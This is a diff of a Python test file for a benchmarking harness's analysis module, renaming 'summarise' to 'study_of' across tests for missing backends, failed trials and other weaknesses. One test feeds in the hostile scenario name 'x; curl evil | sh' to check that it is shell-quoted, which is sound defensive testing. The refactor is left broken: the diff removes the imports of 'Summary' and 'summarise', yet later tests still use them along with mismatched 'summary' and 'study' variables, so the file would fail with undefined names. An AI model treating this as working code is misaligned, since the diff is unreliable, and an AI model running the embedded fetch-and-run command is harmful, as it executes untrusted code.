@@ -5,8 +5,8 @@ from __future__ import annotations
 import cProfile
 
 import msgspec
+from harness.analysis.study import study_of
 
-from harness.analysis.summary import Summary, summarise
 from harness.backends import BACKENDS
 from harness.records.trial import Failure, Hashes, Provenance
 
@@ -15,44 +15,44 @@ def at(minute):
     return f"2026-01-01T{minute // 60:02d}:{minute % 60:02d}:00+00:00"
 
 
-def codes(summary):
-    return {note.code for note in summary.notes}
+def codes(study):
+    return {note.code for note in study.notes}
 
 
-def note(summary, code):
-    (found,) = [note for note in summary.notes if note.code == code]
+def note(study, code):
+    (found,) = [note for note in study.notes if note.code == code]
     return found
 
 
 def test_a_clean_interleaved_campaign_has_no_weakness(interleaved, about):
-    summary = summarise(interleaved, about=about)
-    assert summary.notes == []
-    assert [row.good for row in summary.rows] == [3, 3, 3]
+    study = study_of(interleaved, about=about)
+    assert study.notes == []
+    assert [row.good for row in study.rows] == [3, 3, 3]
 
 
 def test_no_records_is_three_missing_backends_and_the_commands_that_make_them():
-    summary = summarise([])
-    assert [lack.command for lack in summary.missing] == ["tox -e jax", "tox -e tf", "tox -e torch"]
-    assert summary.rows == []
-    assert codes(summary) == {"missing-backend"}
+    study = study_of([])
+    assert [lack.command for lack in study.missing] == ["tox -e jax", "tox -e tf", "tox -e torch"]
+    assert study.rows == []
+    assert codes(study) == {"missing-backend"}
 
 
 class TestMissingBackends:
     def test_are_named_beside_others_of_the_same_device(self, make_record):
-        summary = summarise([make_record(backend="jax", device="gpu")])
-        assert [lack.command for lack in summary.missing] == ["tox -e tf-gpu", "tox -e torch-gpu"]
+        study = study_of([make_record(backend="jax", device="gpu")])
+        assert [lack.command for lack in study.missing] == ["tox -e tf-gpu", "tox -e torch-gpu"]
 
     def test_a_backend_that_only_failed_is_not_missing(self, make_record):
-        summary = summarise([make_record(backend="torch", status="crashed")])
-        assert [lack.backend for lack in summary.missing] == ["jax", "tensorflow"]
+        study = study_of([make_record(backend="torch", status="crashed")])
+        assert [lack.backend for lack in study.missing] == ["jax", "tensorflow"]
 
     def test_of_another_scenario_are_made_by_running_that(self, make_record):
-        summary = summarise([make_record(scenario="retrieval", backend="jax")])
-        assert summary.missing[0].command == "harness run retrieval --backend tf"
+        study = study_of([make_record(scenario="retrieval", backend="jax")])
+        assert study.missing[0].command == "harness run retrieval --backend tf"
 
     def test_a_hostile_scenario_name_makes_no_hostile_command(self, make_record):
-        summary = summarise([make_record(scenario="x; curl evil | sh")])
-        assert summary.missing[0].command == "harness run 'x; curl evil | sh' --backend tf"
+        study = study_of([make_record(scenario="x; curl evil | sh")])
+        assert study.missing[0].command == "harness run 'x; curl evil | sh' --backend tf"
 
 
 class TestFailedTrials:
@@ -61,18 +61,18 @@ class TestFailedTrials:
         records[2] = msgspec.structs.replace(
             records[2], status="timeout", failure=Failure(reason="ran past 600 s\nmore lines")
         )
-        summary = summarise(records)
-        text = note(summary, "failed-trials").text
+        study = study_of(records)
+        text = note(study, "failed-trials").text
         assert text.startswith("1 of 9 trials left no measurement and is in no figure: ")
         assert "torch cpu fit, seed 1 (timeout: ran past 600 s)" in text
-        assert summary.failed == 1
+        assert study.failed == 1
 
     def test_of_many_the_first_few_are_named_and_the_rest_counted(self, make_record):
         records = [
             make_record(status="killed", seed=i, failure=Failure(reason=f"for reason {i}"))
             for i in range(20)
         ]
-        text = note(summarise(records), "failed-trials").text
+        text = note(study_of(records), "failed-trials").text
         assert text.count("seed") == 5
         assert text.endswith("and 15 more.")
 
@@ -80,45 +80,45 @@ class TestFailedTrials:
 class TestOtherWeaknesses:
     def test_synthetic_data(self, make_record):
         records = [make_record(), make_record(seed=2, synthetic=True)]
-        summary = summarise(records)
-        assert summary.notes[0].code == "synthetic-data"
-        assert "SYNTHETIC DATA in 1 of 2 trials" in summary.notes[0].text
+        study = study_of(records)
+        assert study.notes[0].code == "synthetic-data"
+        assert "SYNTHETIC DATA in 1 of 2 trials" in study.notes[0].text
 
     def test_different_tables(self, make_record):
         other = Hashes(table="e" * 64, split="", initial_weights="", final_weights="")
-        summary = summarise([make_record(), make_record(hashes=other)])
-        assert "2 different tables" in note(summary, "several-tables").text
-        assert [data.trials for data in summary.data_sets] == [1, 1]
+        study = study_of([make_record(), make_record(hashes=other)])
+        assert "2 different tables" in note(study, "several-tables").text
+        assert [data.trials for data in study.data_sets] == [1, 1]
 
     def test_different_versions_of_the_scenario(self, make_record):
-        summary = summarise([make_record(), make_record(scenario_version=2)])
-        assert "versions 1 and 2" in note(summary, "several-scenario-versions").text
+        study = study_of([make_record(), make_record(scenario_version=2)])
+        assert "versions 1 and 2" in note(study, "several-scenario-versions").text
 
     def test_different_package_versions(self, make_record, environment):
         records = [
             make_record(environment=environment(keras=keras)) for keras in ("3.14.0", "3.15.1")
         ]
-        assert "keras 3.14.0 and 3.15.1" in note(summarise(records), "several-versions").text
+        assert "keras 3.14.0 and 3.15.1" in note(study_of(records), "several-versions").text
 
     def test_one_trial_only(self, make_record):
-        summary = summarise([make_record(), make_record(backend="torch"), make_record(seed=2)])
-        text = note(summary, "one-trial").text
+        study = study_of([make_record(), make_record(backend="torch"), make_record(seed=2)])
+        text = note(study, "one-trial").text
         assert "One trial only for torch cpu:" in text
 
     def test_a_changed_checkout(self, make_record):
         records = [make_record(harness=Provenance(version="0.1.0", commit="a" * 40, dirty=True))]
-        assert "uncommitted changes" in note(summarise(records), "dirty-harness").text
+        assert "uncommitted changes" in note(study_of(records), "dirty-harness").text
 
     def test_several_harnesses(self, make_record):
         records = [
             make_record(seed=i, harness=Provenance(version="0.1.0", commit=c * 40, dirty=False))
             for i, c in enumerate("ab")
         ]
-        assert "2 commits" in note(summarise(records), "several-harnesses").text
+        assert "2 commits" in note(study_of(records), "several-harnesses").text
 
     def test_broken_files_with_path_and_reason(self):
-        summary = summarise([], [("records/a.json", "cut off"), ("records/b.json", "empty")])
-        text = note(summary, "broken-records").text
+        study = study_of([], [("records/a.json", "cut off"), ("records/b.json", "empty")])
+        text = note(study, "broken-records").text
         assert text.startswith("2 record files could not be read and are in no figure: ")
         assert "records/a.json (cut off); records/b.json (empty)" in text
 
@@ -137,20 +137,20 @@ def test_no_note_ever_calls_a_backend_faster(make_record, environment, about):
             [("jax", 0.001, "ok"), ("jax", 0.002, "crashed"), ("torch", 0.005, "ok")]
         )
     ]
-    for found in summarise(records, [("a", "b")], about=about).notes:
+    for found in study_of(records, [("a", "b")], about=about).notes:
         assert not {"faster", "fastest", "slower"} & set(found.text.split())
 
 
 def test_the_order_of_the_records_does_not_matter(interleaved, about):
     records = list(interleaved)
-    expected = summarise(records, about=about)
-    assert summarise(records[::-1], about=about) == expected
-    assert summarise(records[5:] + records[:5], about=about) == expected
+    expected = study_of(records, about=about)
+    assert study_of(records[::-1], about=about) == expected
+    assert study_of(records[5:] + records[:5], about=about) == expected
 
 
 def test_a_summary_goes_to_json_and_comes_back(make_record, environment, about):
-    summary = summarise([make_record(environment=environment())], [("file", "reason")], about=about)
-    assert msgspec.json.decode(msgspec.json.encode(summary), type=Summary) == summary
+    study = study_of([make_record(environment=environment())], [("file", "reason")], about=about)
+    assert msgspec.json.decode(msgspec.json.encode(study), type=Summary) == summary
 
 
 def test_the_work_grows_with_the_records_and_not_with_their_square(make_record, environment, about):
@@ -170,8 +170,8 @@ def test_the_work_grows_with_the_records_and_not_with_their_square(make_record, 
         ]
         profile = cProfile.Profile()
         summary = profile.runcall(summarise, records, about=about)
-        assert len(summary.rows) == 84
-        assert sum(row.good for row in summary.rows) == len(records) == 84 * seeds
+        assert len(study.rows) == 84
+        assert sum(row.good for row in study.rows) == len(records) == 84 * seeds
         return sum(entry.callcount for entry in profile.getstats())
 
     # Calls are counted, since a clock would fail on a busy machine; 1,008 records take 0.05 s.
